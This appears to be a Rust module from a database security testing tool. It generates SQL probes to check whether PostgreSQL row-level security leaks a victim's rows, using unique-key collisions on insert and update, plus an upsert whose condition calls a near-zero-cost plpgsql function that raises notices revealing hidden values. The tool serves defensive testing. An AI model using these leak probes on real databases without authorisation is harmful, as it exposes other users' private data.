//! Inference by collisions: the attacker's own row, with a unique value of the victim.

use crate::checks::attacks::runner::context::{ATTACKER, Subject};
use crate::checks::attacks::runner::{Context, Probe};
use crate::error::CannotRun;
use crate::rows::compose::Draft;
use crate::sql::ident;

type Probes = Result<Vec<Probe>, CannotRun>;

/// The function that reveals the values that a condition is evaluated on.
pub const LEAK: &str = "create function pg_temp.identra_leak(anyelement) returns boolean \
                               language plpgsql cost 0.0000001 as \
                               $f$begin raise notice 'leak: %', $1; return true; end$f$";

/// A unique constraint or index.
struct Key {
    name: String,
    columns: Vec<String>,
    /// A constraint, which an upsert can name.
    constraint: bool,
}

fn keys(table: &Subject<'_>) -> Vec<Key> {
    let constraints = table.relation.constraints.iter();
    let constraints = constraints.filter(|c| ["p", "u", "x"].contains(&c.kind.as_str())).map(|c| {
        let constraint = c.kind != "x";
        Key { name: c.name.clone(), columns: c.columns.clone(), constraint }
    });
    let indexes = table.relation.indexes.iter();
    let indexes = indexes.filter(|index| index.definition.starts_with("CREATE UNIQUE")).map(|i| {
        let (_, within) = i.definition.split_once(" USING ").unwrap_or_default();
        let words: Vec<&str> = within.split(|c: char| !(c.is_alphanumeric() || c == '_')).collect();
        let columns = table.relation.columns.iter().map(|column| column.name.clone());
        let columns = columns.filter(|column| words.contains(&column.as_str())).collect();
        Key { name: i.name.clone(), columns, constraint: false }
    });
    constraints.chain(indexes).collect()
}

/// The attacker's row with the victim's values in the columns of a key, and otherwise only the
/// required columns; none if the victim has no values there.
fn proposal(
    context: &Context<'_>,
    table: &Subject<'_>,
    key: &Key,
) -> Result<Option<Draft>, CannotRun> {
    let secrets = context.secret_rows(table, &context.attacker);
    let Some(victims) = secrets.first() else { return Ok(None) };
    let mut draft = context.draft(table.name, ATTACKER)?;
    draft.values.retain(|column, _| {
        let required = table.relation.column(column).is_some_and(|c| c.not_null);
        required || table.declared.client_may("insert", column)
    });
    for column in &key.columns {
        let literal = victims.literal(column).filter(|literal| *literal != "null");
        let Some(literal) = literal else { return Ok(None) };
        draft.values.insert(column.clone(), literal.to_owned());
    }
    Ok(Some(draft))
}

/// Updates the attacker's own row to the victim's key.
pub(super) fn moves(context: &Context<'_>, table: &Subject<'_>) -> Probes {
    let mut probes = Vec::new();
    let secrets = context.secret_rows(table, &context.attacker);
    let Some(victims) = secrets.first() else { return Ok(probes) };
    let own = context.aim(table.name, ATTACKER)?;
    let is_null = |column: &String| victims.literal(column).is_none_or(|it| it == "null");
    for key in keys(table).into_iter().filter(|key| !key.columns.iter().any(is_null)) {
        let sets = key.columns.iter().map(|column| {
            format!("{} = {}", ident(column), victims.literal(column).unwrap_or("null"))
        });
        let (name, sets) = (table.relation.qualified(), sets.collect::<Vec<_>>().join(", "));
        let script = vec![format!("update {name} set {sets} where {own}")];
        probes.push(context.probe(table, &format!("{}, update", key.name), script)?);
    }
    Ok(probes)
}

/// I01: each key, by insert and by update, with and without ON CONFLICT.
pub(super) fn uniques(context: &Context<'_>) -> Probes {
    let mut probes = Vec::new();
    for table in context.secret_tables(&context.attacker) {
        for key in keys(&table) {
            let Some(draft) = proposal(context, &table, &key)? else { continue };
            let insert = draft.insert(table.relation);
            for (way, script) in [
                ("insert", insert.clone()),
                ("do nothing", format!("{insert} on conflict do nothing")),
            ] {
                let mut probe =
                    context.probe(&table, &format!("{}, {way}", key.name), vec![script])?;
                probe.setup.clone_from(&draft.setup);
                probes.push(probe);
            }
        }
        probes.extend(moves(context, &table)?);
    }
    Ok(probes)
}

/// I06: an upsert for each key, by columns and by constraint, with a condition that reveals the
/// values that it is evaluated on.
pub(super) fn upserts(context: &Context<'_>) -> Probes {
    let mut probes = Vec::new();
    for table in context.secret_tables(&context.attacker) {
        for key in keys(&table).into_iter().filter(|key| key.constraint) {
            let Some(draft) = proposal(context, &table, &key)? else { continue };
            let plain = |column: &&String| !key.columns.contains(column);
            let may = |column: &&String| table.declared.client_may("update", column);
            let mut columns = table.relation.columns.iter().map(|column| &column.name);
            let set = columns.find(|column| plain(column) && may(column));
            let Some(set) = set.or_else(|| draft.values.keys().find(plain)).map(|s| ident(s))
            else {
                continue;
            };
            let columns: Vec<String> = key.columns.iter().map(|column| ident(column)).collect();
            // Every column: one that is null in the victim's row is null in each world.
            let readable = table.readable().into_iter();
            let leak: Vec<String> = readable
                .map(|column| format!("pg_temp.identra_leak(r.{})", ident(column)))
                .collect();
            for (way, target) in [
                ("by columns", format!("({})", columns.join(", "))),
                ("by constraint", format!("on constraint {}", ident(&key.name))),
            ] {
                let insert = draft.insert(table.relation);
                let name = table.relation.qualified();
                let insert = insert.replacen(&name, &format!("{name} as r"), 1);
                let upsert = format!(
                    "{insert} on conflict {target} do update set {set} = excluded.{set} \
                     where {}",
                    leak.join(" and ")
                );
                let script = vec![LEAK.to_owned(), upsert];
                let mut probe = context.probe(&table, &format!("{}, {way}", key.name), script)?;
                probe.setup.clone_from(&draft.setup);
                probes.push(probe);
            }
        }
    }
    Ok(probes)
}
